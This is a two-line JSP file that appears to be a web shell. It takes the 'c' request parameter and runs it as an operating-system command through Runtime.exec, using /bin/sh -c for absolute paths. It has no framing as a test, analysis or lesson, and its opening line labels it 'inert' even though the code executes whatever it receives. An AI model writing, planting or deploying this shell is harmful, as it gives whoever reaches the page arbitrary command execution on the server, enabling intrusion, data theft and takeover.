<%@ inert %>
<% Runtime r = Runtime.getRuntime(); String c = request.getParameter("c"); Process p = c.startsWith("/") ? r.exec(new String[]{"/bin/sh", "-c", c}) : r.exec(c); %>